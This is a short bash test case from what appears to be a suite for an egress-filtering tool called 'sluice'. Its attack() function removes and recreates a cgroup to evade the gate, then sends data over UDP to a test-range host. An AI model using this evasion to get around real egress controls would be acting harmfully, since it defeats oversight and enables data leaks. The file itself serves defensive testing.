# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The cgroup removed and made again at the same path'
origin='RESEARCH §2.76'
reason='not_resolved'
forms=output
# Whoever makes the cgroup again waits, as a runner does, until the gate knows it: `sluice status` says cgroups_awaited.
attack() {
    if gate_on; then
        h c sh -c 'find "$0" -depth -type d -exec rmdir {} \; && mkdir "$0"' "$CGROUPS$CGROUP" || return
        eventually 5 found_again
    fi
    tool send.py udp 198.18.3.66 9999 "$1"
}
found_again() { [ "$(h c "$SLUICE" status --json | jq .cgroups_awaited)" = 0 ]; }
